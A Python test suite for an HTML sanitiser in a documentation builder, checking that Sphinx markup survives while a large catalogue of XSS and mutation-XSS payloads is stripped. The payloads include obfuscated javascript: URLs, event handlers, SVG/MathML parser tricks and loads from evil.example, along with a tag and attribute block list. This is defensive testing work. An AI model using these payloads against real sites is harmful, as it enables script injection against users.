"""Nothing that runs, loads from elsewhere or asks for input leaves the sanitiser; what Sphinx writes does."""

# ruff: noqa: E501 - a payload is read on one line, and a list of them as words
from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from builder.sanitize import by_both_guards, by_one_guard, guards, policy, sanitize

RUNS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script never closed": "<p>text<script>alert(1)",
    "script after slash": "<script/x>alert(1)</script/>",
    "event handler": '<p onclick="alert(1)">text</p>',
    "event handler on a link": '<a href="a.html" onclick="alert(1)" onfocus=alert(1)>go</a>',
    "event handler after slash": "<img/onerror=alert(1)/src=x>",
    "event handler after a line break": "<img src=x\nonerror\n=\nalert(1)>",
    "event handler of any element": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "event handler with odd name": "<p onfoo=1 ONLOAD=2 on=3>text</p>",
    "javascript": '<a href="javascript:alert(1)">go</a>',
    "javascript in mixed case": '<a href="JaVaScRiPt:alert(1)">go</a>',
    "javascript with a tab": '<a href="java\tscript:alert(1)">go</a>',
    "javascript with a line break reference": '<a href="java&#10;script:alert(1)">go</a>',
    "javascript after controls": '<a href="\x01\x1f javascript:alert(1)">go</a>',
    "javascript after control references": '<a href="&#1;&#x1f;javascript:alert(1)">go</a>',
    "javascript with a zero width space": '<a href="\u200bjavascript:alert(1)">go</a>',
    "javascript after a line separator": '<a href="\u2028javascript:alert(1)">go</a>',
    "javascript with a soft hyphen": '<a href="java\xadscript:alert(1)">go</a>',
    "javascript in references": '<a href="&#106;&#x61;vascript&colon;alert(1)">go</a>',
    "javascript in references without end": '<a href="&#0000106avascript:alert(1)">go</a>',
    "javascript between backticks": "<a href=`javascript:alert(1)`>go</a>",
    "vbscript": '<a href="vbscript:msgbox(1)">go</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">go</a>',
    "view-source": '<a href="view-source:javascript:alert(1)">go</a>',
    "blob": '<a href="blob:https://evil.example/1">go</a>',
    "image of javascript": '<img src="javascript:alert(1)" alt="a">',
    "image of data": '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="a">',
    "image from elsewhere": '<img src="https://evil.example/pixel.gif" alt="a">',
    "image from elsewhere without scheme": '<img src="//evil.example/pixel.gif" alt="a">',
    "image from elsewhere with backslashes": '<img src="/\\evil.example/pixel.gif" alt="a">',
    "image from elsewhere after a tab": '<img src="/\t/evil.example/pixel.gif" alt="a">',
    "image set": '<img srcset="https://evil.example/1.png 2x" src="a.png" alt="a">',
    "picture": '<picture><source srcset="https://evil.example/1.png"><img src="a.png" alt="a"></picture>',
    "style attribute": '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">text</p>',
    "style element": "<style>@import 'https://evil.example/x.css'; body{display:none}</style><p>text</p>",
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "meta": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe with a document": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object": '<object data="javascript:alert(1)"><p>text</p></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "applet": '<applet code="Evil.class"></applet>',
    "audio and video": "<audio src=x onerror=alert(1)></audio><video><source onerror=alert(1)></video>",
    "form": '<form action="https://evil.example/"><input name="q"><button>Log in</button></form>',
    "formaction": '<button formaction="javascript:alert(1)">go</button><input type=image formaction=x>',
    "autofocus": "<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)></textarea>",
    "editable": '<p contenteditable tabindex="1" accesskey="x" onbeforeinput=alert(1)>text</p>',
    "dialog": '<dialog open onclose=alert(1)>text</dialog><p popover popovertarget="x">text</p>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)>go</a></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>go</text></a></svg>",
    "svg foreign object": "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">go</maction></math>',
    "mathml link": '<math href="javascript:alert(1)"><mtext>go</mtext></math>',
    "custom element": '<x-y is="z" onclick=alert(1)>text</x-y>',
    "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?><p>text</p>',
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype": '<!DOCTYPE html [<!ENTITY x "<script>">]><p>&x;</p>',
    "comment": "<!-- <script>alert(1)</script> --><p>text</p>",
    "comment ended early": "<!--><script>alert(1)</script>--><p>text</p>",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "slot and part": '<p slot="x" part="y" nonce="z">text</p><slot name="x"></slot>',
}
"""What runs in a browser, by family."""

MUTATES = {
    "noscript attribute": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "style in svg": '<svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg>',
    "style in math": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></math>',
    "title in svg": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "description in svg": '<svg></p><desc><p title="</desc><img src=x onerror=alert(1)>"></svg>',
    "nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>",
    "foster parent": "<table><tr><a href='javascript:alert(1)'><td><svg><style><a title='</style><img onerror=1>'>",
    "template": "<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><script>1</script>",
    "select": "<select><template><style><!--</style><a rel='--></select><img src=x onerror=alert(1)>'></template>",
    "select with keygen": "<select><keygen><script>alert(1)</script></select>",
    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "plain text": "<plaintext><img src=x onerror=alert(1)>",
    "example": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><listing>&lt;img onerror=alert(1)&gt;</listing>",
    "noembed and noframes": "<noembed><p title='</noembed><img onerror=1>'></noembed><noframes><img onerror=1></noframes>",
    "broken attribute": '<img alt="`><script>alert(1)</script>" x=`',
    "quotes by reference": '<p title="&quot; onmouseover=&quot;alert(1)">text</p>',
    "references twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "body attributes": "<body onload=alert(1)><html onclick=alert(1)><head></head>",
    "nested links": '<a href="a.html">one<table><tr><td><a href="javascript:alert(1)">two</a></td></tr></table></a>',
    "line breaks in pre": "<pre>\n\n&#10;\n<img src=x onerror=alert(1)></pre>",
    "NUL": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x on\x00error=alert(1)>",
    "lone surrogate": "<p title='\ud800'>\udfff<script>alert(1)</script></p>",
    "half a tag": "<p>text<img src=x onerror=alert(1)",
}
"""What changes its meaning when a parser reads again what another has written."""

STARTS_LINK = re.compile(r"\s*([a-zA-Z][a-zA-Z0-9+.-]*):")


class FaultError(AssertionError):
    """Something in sanitised HTML that must not be there."""


class Inspector(HTMLParser):
    """Reads sanitised HTML, which is written in one plain way, and stops at anything that no rule allows."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in policy.TAGS:
            raise FaultError(tag)
        for name, value in attrs:
            if name.startswith("on") or name == "style" or not policy.is_allowed(tag, name, value or ""):
                raise FaultError(f"{tag} {name}={value}")
            scheme = STARTS_LINK.match(re.sub(r"[\x00-\x20]", "", value or ""))
            if name in {"href", "src"} and scheme and scheme[1].lower() not in policy.SCHEMES:
                raise FaultError(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        raise FaultError(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        raise FaultError(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        raise FaultError(f"instruction {data}")


def assert_harmless(html: str) -> None:
    """Fail unless the HTML holds only what the policy allows and both guards leave it as it is."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert guards.nh3_clean(html) == html
    assert guards.nh3_clean_strictly(html) == html
    assert guards.nh3_clean_strictly(guards.bleach_clean(html)) == html
    assert sanitize(html).html == html


@pytest.mark.parametrize("payload", [*RUNS.values(), *MUTATES.values()], ids=[*RUNS, *MUTATES])
def test_nothing_that_runs_is_left_and_both_guards_accept_the_rest(payload: str) -> None:
    html = sanitize(payload).html

    assert_harmless(html)


@pytest.mark.parametrize("payload", RUNS.values(), ids=list(RUNS))
def test_nothing_that_runs_is_left_inside_a_page(payload: str) -> None:
    html = sanitize(
        f'<section id="s"><h1>Title</h1><table><tr><td>{payload}</td></tr></table></section>'
    ).html

    assert_harmless(html)
    assert html.startswith('<section id="s"><h1>Title</h1>')


def test_the_allow_list_names_nothing_that_runs_loads_or_asks() -> None:
    names = {*policy.GLOBAL_ATTRIBUTES, *(name for allowed in policy.ATTRIBUTES.values() for name in allowed)}

    assert not [name for name in names if name.startswith("on")]
    assert not names & {
        "action",
        "autofocus",
        "background",
        "data",
        "formaction",
        "name",
        "ping",
        "poster",
        "srcdoc",
    }
    assert not names & {
        "srcset",
        "style",
        "tabindex",
        "target",
        "contenteditable",
        "is",
        "nonce",
        "popover",
        "slot",
    }
    assert not policy.TAGS & {
        "applet",
        "base",
        "body",
        "button",
        "dialog",
        "embed",
        "form",
        "frame",
        "frameset",
    }
    assert not policy.TAGS & {
        "head",
        "html",
        "input",
        "link",
        "math",
        "meta",
        "object",
        "option",
        "param",
        "select",
    }
    assert not policy.TAGS & {
        "audio",
        "picture",
        "portal",
        "slot",
        "source",
        "svg",
        "textarea",
        "track",
        "video",
    }
    assert not policy.TAGS & policy.DROPPED
    assert sorted(policy.SCHEMES) == ["ftp", "http", "https", "mailto"]


SPHINX = {
    "signature": '<dl class="py function"><dt class="sig sig-object py" id="json.dump">'
    '<span class="sig-prename descclassname">json.</span><em class="sig-param"><span class="o">*</span></em>'
    '<a class="headerlink" href="#json.dump" title="Link to this definition">¶</a></dt><dd><p>Text</p></dd></dl>',
    "code": '<div class="highlight-python3 notranslate"><div class="highlight"><pre>'
    '<span class="gp">&gt;&gt;&gt; </span><span class="n">x</span> <span class="o">&lt;</span> 1 &amp; 2\n'
    "</pre></div></div>",
    "table": '<table class="docutils align-default"><caption><span class="caption-text">Caption</span></caption>'
    '<colgroup><col width="25%"><col width="75%"></colgroup><thead><tr class="row-odd">'
    '<th class="head" colspan="2" scope="col">Head</th></tr></thead>'
    '<tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>',
    "lists": '<ol class="arabic simple" start="4" type="a"><li value="7"><p>One</p></li></ol><ul><li>Two</li></ul>',
    "figure": '<figure class="align-center" id="id1"><img alt="A tree" src="../_images/tree.png" width="200" '
    'height="100" loading="lazy"><figcaption><p>Caption</p></figcaption></figure>',
    "footnote": '<aside class="footnote-list brackets"><aside class="footnote brackets" id="id3" role="doc-footnote">'
    '<span class="label"><a role="doc-backlink" href="#id2">1</a></span><p>Note</p></aside></aside>',
    "links": '<a class="reference external" href="https://peps.python.org/pep-0008/">PEP 8</a>'
    '<a href="mailto:docs%40python.org">mail</a><a href="//docs.python.org/">host</a>'
    '<a class="reference download internal" download="" href="../_downloads/1/tzinfo.py">file</a>',
    "math": r'<div class="math notranslate nohighlight">\[a &lt; b\]</div><span class="math">\(x^2\)</span>',
    "inline": "<abbr title='first in, first out'>FIFO</abbr><kbd class='kbd'>Ctrl</kbd><samp>1</samp><sub>1</sub>"
    "<sup>2</sup><del>3</del><ins>4</ins><mark>5</mark><cite>6</cite><small>7</small>".replace("'", '"'),
    "details": '<details open=""><summary>More</summary><p>Text</p></details>',
    "other scripts": '<p lang="ar" dir="rtl">مرحبا</p><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>',
    "non-breaking space": "<p>a&nbsp;b</p>",
}
"""What Sphinx writes for readers, in nh3's spelling."""


@pytest.mark.parametrize("markup", SPHINX.values(), ids=list(SPHINX))
def test_what_sphinx_writes_is_left_as_it_is(markup: str) -> None:
    html = sanitize(markup).html

    assert html == markup
    assert_harmless(html)


def test_other_spellings_of_the_same_tree_need_no_second_guard() -> None:
    html = by_one_guard(
        "<p title='a'>&#64;&quot;<br />\xa0</p><pre>\n<b>x</b></pre><table><col width=\"1%\" /><tr><td>1</td></tr>"
        '</table><p class="note"><p>inner</p></p>'
    )

    assert html == (
        '<p title="a">@"<br>&nbsp;</p><pre><b>x</b></pre>'
        '<table><colgroup><col width="1%"></colgroup><tbody><tr><td>1</td></tr></tbody></table>'
        '<p class="note"></p><p>inner</p><p></p>'
    )


@pytest.mark.parametrize("payload", RUNS.values(), ids=list(RUNS))
def test_whatever_loses_something_meets_both_guards(payload: str) -> None:
    assert by_one_guard(payload) is None


def test_what_is_removed_leaves_its_text_unless_that_is_code() -> None:
    html = sanitize(
        "<center><form>Name: <button>Go</button></form></center><font color=red>red</font>"
        "<script>one()</script><style>two{}</style><svg><text>label</text></svg><title>three</title>"
        "<iframe>four</iframe><noscript>five</noscript><template>six</template>"
    ).html

    assert html.split() == ["<center>", "Name:", "Go</center>redlabel"]


def test_content_has_no_id_of_the_site_itself() -> None:
    html = sanitize('<p id="ld--search">one</p><p id="ld">two</p><p id="LD-x">three</p>').html

    assert html == '<p>one</p><p id="ld">two</p><p id="LD-x">three</p>'


def test_content_has_no_class_of_the_site_itself() -> None:
    html = sanitize(
        '<p class="ld-copy">one</p><p class="note&#10;ld-skip">two</p><p class="field-list old-x">three</p>'
    ).html

    assert html == '<p>one</p><p>two</p><p class="field-list old-x">three</p>'


def test_images_come_from_the_site_alone() -> None:
    html = sanitize(
        '<img src="_images/a%20b.png?v=1#x" alt="a"><img alt="build status" src="https://ci.example/b.svg">'
    ).html

    assert html == '<img src="_images/a%20b.png?v=1#x" alt="a"><img alt="build status">'


def test_no_widget_pretends_to_be_the_sites_own() -> None:
    html = sanitize(
        '<div role="combobox">a</div><ul role="listbox"><li role="option">b</li></ul><p role="note">c</p>'
    ).html

    assert html == '<div>a</div><ul><li>b</li></ul><p role="note">c</p>'


def test_html_on_which_the_guards_never_agree_is_shown_as_text() -> None:
    html = by_both_guards("<p>text</p>", first=lambda fragment: f"{fragment}<b>more</b>")

    assert html.startswith("&lt;p&gt;text&lt;/p&gt;&lt;b&gt;more")
    assert "<" not in html


PIECES = st.sampled_from(
    sorted(
        {
            *(f"<{tag}>" for tag in policy.TAGS | policy.DROPPED),
            *(f"</{tag}>" for tag in policy.TAGS | policy.DROPPED),
            *"<svg>|</svg>|<math>|</math>|<mtext>|<mglyph>|<annotation-xml>|<foreignObject>|<desc>".split(
                "|"
            ),
            *"<form>|</form>|<select>|</select>|<option>|<textarea>|<xmp>|<plaintext>|<frameset>".split("|"),
            *"<!--|-->|--!>|<!|<?|]]>|<![CDATA[|\"|'|`|>|/>|<|=| |\n|&|&lt;|&#0;|&#10;|&colon;|\x00|\xa0|\ud800".split(
                "|"
            ),
            *'<img src=x onerror=alert(1)>|<a href="|javascript:alert(1)|onclick=x |style="x" |id="ld--x"|class="a ld-b"'.split(
                "|"
            ),
        }
    )
)
HOSTILE = st.lists(PIECES | st.text(max_size=4), max_size=24).map("".join)
"""Soup of tags and what breaks them: far denser in trouble than random text."""


@settings(deadline=None, max_examples=300)
@given(HOSTILE)
def test_anything_comes_out_harmless_and_stays_as_it_is(fragment: str) -> None:
    html = sanitize(fragment).html

    assert_harmless(html)


@settings(deadline=None, max_examples=150)
@given(
    st.sampled_from(["a", "img", "p", "svg", "form", "object"]),
    st.sampled_from(
        ["href", "src", "xlink:href", "action", "formaction", "data", "background", "onload", "style", "id"]
    ),
    st.sampled_from(["", " ", "\x01", "\u2028", "\t", "&#9;", "&Tab;", "\u200b"]).flatmap(
        lambda odd: st.sampled_from(
            [
                f"{odd}javascript:x",
                f"java{odd}script:x",
                f"javascript{odd}:x",
                f"{odd}//e.example",
                f"/{odd}/e.example",
            ]
        )
    ),
    st.sampled_from(['"', "'", ""]),
)
def test_no_attribute_leads_to_code(tag: str, name: str, value: str, quote: str) -> None:
    html = sanitize(f"<{tag} {name}={quote}{value}{quote}>text</{tag}>").html

    assert_harmless(html)
